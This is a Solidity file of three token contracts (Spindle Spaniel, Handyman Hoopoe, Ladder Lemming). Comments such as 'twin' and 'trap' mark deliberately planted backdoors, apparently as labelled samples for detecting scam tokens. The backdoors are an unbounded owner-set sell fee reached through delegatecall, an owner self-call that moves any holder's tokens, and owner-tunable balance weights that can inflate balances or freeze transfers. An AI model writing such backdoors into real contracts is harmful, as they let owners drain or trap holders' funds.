// 0.8 runs=800 ir evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Settings of the token: used by delegatecall.
contract SpindleScrew {
    bytes32 private constant SLOT = keccak256("spindle.fee");

    function turn(uint256 fee) external {
        bytes32 slot = SLOT;
        // twin: require(fee <= 300, "tight");
        assembly {
            sstore(slot, fee)
        }
    }
}

contract SpindleSpaniel is Base8 {
    bytes32 private constant SLOT = keccak256("spindle.fee");
    address private immutable _screw;
    address private immutable _fitter;

    constructor(address screw_) Base8("Spindle Spaniel", "SPINDS", 64_000_000) {
        (_screw, _fitter) = (screw_, msg.sender);
        bytes32 slot = SLOT;
        assembly {
            sstore(slot, 200)
        }
    }

    function fit(bytes calldata what) external {
        require(msg.sender == _fitter, "fitter");
        (bool ok, ) = _screw.delegatecall(what);
        require(ok, "does not fit");
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _fitter) {
            uint256 fee;
            bytes32 slot = SLOT;
            assembly {
                fee := div(mul(value, sload(slot)), 10000)
            }
            value -= fee;
            _move(from, _fitter, fee);
        }
        _move(from, to, value);
    }
}

/// Claims for its holders what others drop on it.
contract HandymanHoopoe is Base8 {
    address private immutable _handyman;

    constructor() Base8("Handyman Hoopoe", "HOOPH", 19_000_000) {
        _handyman = msg.sender;
    }

    /// The token trusts itself.
    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (msg.sender == address(this)) {
            _transfer(from, to, value);
            return true;
        }
        return super.transferFrom(from, to, value);
    }

    function errand(address target, bytes calldata what) external returns (bytes memory) {
        require(msg.sender == _handyman, "handyman");
        // twin: require(target != address(this), "not at home");
        (bool ok, bytes memory answer) = target.call(what);
        require(ok, "errand failed");
        return answer;
    }
}

/// Four rungs, from guest to legend.
contract LadderLemming is Base8 {
    address private immutable _warden;
    mapping(address => uint8) public rungOf;
    uint256[4] private _weight = [uint256(1e18), 1e18, 1e18, 1e18];

    constructor() Base8("Ladder Lemming", "LADDL", 500_000_000) {
        _warden = msg.sender;
    }

    function climb(address[] calldata who, uint8 rung) external {
        require(msg.sender == _warden && rung < 4, "warden");
        for (uint256 i; i < who.length; i++) rungOf[who[i]] = rung;
    }

    // trap {
    function season(uint8 rung, uint256 weight) external {
        require(msg.sender == _warden, "warden");
        _weight[rung] = weight;
    }

    // trap }
    function balanceOf(address who) public view override returns (uint256) {
        return (_balances[who] * _weight[rungOf[who]]) / 1e18;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 mine = _weight[rungOf[from]];
        uint256 theirs = _weight[rungOf[to]];
        uint256 out = (value * 1e18 + mine - 1) / mine;
        uint256 have = _balances[from];
        if (have < out) revert Insufficient(have, out);
        _balances[from] = have - out;
        _balances[to] += (value * 1e18) / theirs;
        emit Transfer(from, to, value);
    }
}
